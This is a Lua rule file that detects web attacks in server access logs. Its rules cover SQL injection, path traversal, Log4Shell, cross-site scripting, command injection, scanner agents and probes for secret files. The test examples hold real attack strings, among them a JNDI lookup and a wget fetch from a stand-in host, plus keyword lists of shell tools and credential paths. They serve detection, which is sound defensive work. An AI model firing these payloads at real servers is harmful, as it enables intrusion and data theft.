-- Attacks and faults in the access logs of web servers.
-- Addresses in the examples are those kept for manuals.

-- The request of a line in the common log format: a method, then the target that holds `what`.
local function request(what)
  return [["(?i:GET|POST|PUT|HEAD|DELETE|OPTIONS|PATCH) [^"\n]{0,1000}?(?:]] .. what .. [[)[^"\n]{0,1000}"]]
end

local function line(target, status, agent)
  return '203.0.113.66 - - [12/Oct/2025:06:16:44 +0000] "GET ' .. target .. ' HTTP/1.1" ' .. (status or 200) ..
    ' 173 "-" "' .. (agent or "Mozilla/5.0") .. '"'
end

rule "http-server-error" {
  title     = "Web server answered with an error of its own (5xx)",
  tags      = { "log", "web" },
  severity  = "low",
  meta      = { remediation = "Look into the application's log at that time." },
  prefilter = any { 'HTTP/1.0" 5', 'HTTP/1.1" 5', 'HTTP/2.0" 5', 'HTTP/3.0" 5', 'HTTP/2" 5' },
  confirm   = { regex [["(?:[A-Z]{3,7}) [^"\n]{1,1000} HTTP/(?:1\.[01]|2(?:\.0)?|3\.0)" (5\d\d) ]] },
  examples  = {
    match = { line("/cart", 502), '"POST /pay HTTP/2.0" 503 12' },
    miss  = { line("/cart", 200), line("/cart", 404), 'HTTP/1.1" 5 bytes' },
  },
}

rule "web-sql-injection" {
  title     = "Attempt at SQL injection in a request",
  tags      = { "log", "web", "attack" },
  severity  = "medium",
  meta      = { reference = "https://owasp.org/www-community/attacks/SQL_Injection",
                remediation = "Check that the query is parameterised; look at what the answer held." },
  prefilter = any { lit("union", "nocase"), "'", "%27", lit("information_schema.", "nocase"),
    lit("sleep", "nocase"), lit("benchmark", "nocase"), lit("waitfor", "nocase") },
  confirm   = {
    regex(request([[(?i:union(?:\s|%20|\+|/\*.{0,9}?\*/){1,4}(?:all(?:\s|%20|\+){1,4})?select\b|]] ..
      [[(?:'|%27)(?:\s|%20|\+){0,4}(?:or|and)(?:\s|%20|\+){1,4}(?:'|%27)?\d{1,4}(?:'|%27)?(?:=|%3d)|]] ..
      [[\binformation_schema\.|(?:\b|%20)(?:(?:pg_)?sleep|benchmark)(?:\(|%28)|\bwaitfor(?:%20|\+)delay)]])),
  },
  examples  = {
    match = { line "/products?page=1%27%20UNION%20SELECT%20login,hash%20FROM%20users--",
              line "/p?id=1'+or+'1'='1", line "/p?id=1%20and%20sleep(5)" },
    miss  = { line "/blog/union-selects-a-speaker", line "/search?q=sleep+well", "UNION SELECT in a text" },
  },
}

rule "web-path-traversal" {
  title     = "Attempt to leave the web root in a request",
  tags      = { "log", "web", "attack" },
  severity  = "medium",
  meta      = { reference = "https://owasp.org/www-community/attacks/Path_Traversal",
                remediation = "Check that the answer was an error; normalise paths before they are opened." },
  prefilter = any { "../", "..\\", lit("..%2f", "nocase"), lit("..%5c", "nocase"), lit("..%252f", "nocase"),
    lit("%2e%2e", "nocase"), lit("%252e%252e", "nocase"), lit("/etc/passwd", "nocase"),
    lit("/windows/win.ini", "nocase") },
  confirm   = {
    regex(request([[(?i:(?:(?:\.\.|%2e%2e|%252e%252e)(?:/|\\|%2f|%5c|%252f)){2,}|]] ..
      [[/etc/passwd\b|/windows/win\.ini\b)]])),
  },
  examples  = {
    match = { line("/static/../../../../etc/passwd", 404), line("/f?name=..%2f..%2f..%2fetc%2fshadow", 400),
              line("/%2e%2e/%2e%2e/boot.ini") },
    miss  = { line "/static/cart.js?v=1..2", line "/docs/../index.html", "cd ../../etc" },
  },
}

rule "web-log4shell" {
  title     = "Attempt at Log4Shell (CVE-2021-44228)",
  tags      = { "log", "web", "attack" },
  severity  = "high",
  meta      = { reference = "https://logging.apache.org/security.html",
                remediation = "Update Log4j to 2.17.1 or later; look for connections to the named host." },
  prefilter = any { "${", lit("$%7b", "nocase"), "%24{", lit("%24%7b", "nocase") },
  confirm   = {
    regex([[(?i:(?:\$|%24)(?:\{|%7b)(?:jndi|\$\{(?:lower|upper|env|sys|date|]] ..
      [[::-)[^}\n]{0,40}\}[^:\n]{0,80}?)(?::|%3a)(?:\$\{[^}\n]{0,40}\}|ldaps?|rmi|dns|iiop|corba|]] ..
      [[nds|https?)[^\s"]{0,200})]]),
  },
  examples  = {
    match = { line("/", 200, "${jndi:ldap://198.51.100.7:1389/a}"),
              line "/?x=%24%7Bjndi%3Adns%3A%2F%2F198.51.100.7%7D",
              line("/", 200, "${${lower:j}ndi:rmi://198.51.100.7/o}") },
    miss  = { line("/", 200, "${HOSTNAME}"), "String s = \"${jndi}\";" },
  },
}

rule "web-cross-site-scripting" {
  title     = "Attempt at cross-site scripting in a request",
  tags      = { "log", "web", "attack" },
  severity  = "low",
  meta      = { reference = "https://owasp.org/www-community/attacks/xss/",
                remediation = "Check that the page escapes what it prints; set a content security policy." },
  prefilter = any { lit("script", "nocase"), lit("onerror", "nocase"), lit("onload", "nocase"), lit("<svg",
    "nocase"),
    lit("%3csvg", "nocase") },
  confirm   = {
    regex(request([[(?i:(?:<|%3c)(?:/|%2f)?script\b|javascript(?::|%3a)|]] ..
      [[(?:\b|%2[027])on(?:error|load)(?:=|%3d))]])),
  },
  examples  = {
    match = { line "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", line "/u?n=%22onerror%3Dalert(1)" },
    miss  = { line "/static/script.js", line "/search?q=javascript+book", "<script>" },
  },
}

rule "web-command-injection" {
  title     = "Attempt to run a command through a request",
  tags      = { "log", "web", "attack" },
  severity  = "medium",
  meta      = { reference = "https://owasp.org/www-community/attacks/Command_Injection",
                remediation = "Check what the handler does with the parameter; never hand it to a shell." },
  prefilter = any { lit("wget", "nocase"), lit("curl", "nocase"), lit("/bin/", "nocase"), lit("%2fbin%2f", "nocase"),
    lit("cmd.exe", "nocase"), lit("chmod", "nocase"), lit("powershell", "nocase"), lit("whoami", "nocase"),
    lit("uname", "nocase") },
  confirm   = {
    regex(request([[(?i:(?:;|%3b|\||%7c|`|%60|\$\(|%24%28|%0a)(?:\s|%20|\+){0,4}]] ..
      [[(?:wget|curl|chmod|whoami|uname|powershell|cmd\.exe|(?:/bin/|%2fbin%2f)(?:ba|da|)sh|/bin/(?:nc|cat|id))]] ..
      [[(?:\s|%20|\+|;|%3b|\||$))]])),
  },
  examples  = {
    match = { line "/cgi-bin/ping?host=1;wget%20http://198.51.100.7/x.sh", line "/t?q=%7Cwhoami%20" },
    miss  = { line "/docs/curl", line "/search?q=wget+manual" },
  },
}

rule "web-scanner-agent" {
  title     = "Request of a known scanner",
  tags      = { "log", "web", "attack" },
  severity  = "info",
  meta      = { remediation = "Expected from your own tests; else rate-limit the address." },
  prefilter = any { lit("sqlmap/", "nocase"), lit("nikto/", "nocase"), lit("masscan/", "nocase"),
    lit("zgrab/", "nocase"), lit("nuclei", "nocase"), lit("gobuster/", "nocase"),
    lit("dirbuster", "nocase"), lit("wpscan", "nocase"), lit("acunetix", "nocase"),
    lit("nmap scripting engine", "nocase"), lit("feroxbuster/", "nocase") },
  confirm   = {
    regex([["[^"\n]{0,200}\b(?:sqlmap/|nikto/|masscan/|zgrab/|nuclei\b|gobuster/|dirbuster|wpscan|]] ..
      [[acunetix|nmap scripting engine|feroxbuster/)[^"\n]{0,200}"$]], "im"),
  },
  examples  = {
    match = { line("/", 200, "sqlmap/1.7") .. "\n" .. line("/", 200),
              line("/", 404, "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org)") },
    miss  = { line("/sqlmap/", 200), "run sqlmap/1.7 yourself" },
  },
}

rule "web-sensitive-file-probe" {
  title     = "Request for a file that should not be served",
  tags      = { "log", "web", "attack" },
  severity  = "low",
  meta      = { remediation = "An answer of 200 means that it is served: take it away and replace its secrets." },
  prefilter = any { "/.env", "/.git/", "/.aws/", "/.ssh/", "/wp-config.php", "/id_rsa", "/.htpasswd",
    "/server-status",
    "/phpinfo.php", "/actuator/" },
  confirm   = {
    regex([["(?:GET|HEAD|POST) [^"\s]{0,200}/(?:\.env\b|\.git/(?:config|HEAD)|\.aws/credentials|\.ssh/|]] ..
      [[wp-config\.php|id_rsa\b|\.htpasswd|server-status|phpinfo\.php|actuator/(?:env|]] ..
      [[heapdump))[^"\n]{0,200}" (\d{3})]]),
  },
  examples  = {
    match = { line("/.env", 404), line("/blog/.git/config", 200) },
    miss  = { line("/env", 200), line("/.github/", 404) },
  },
}
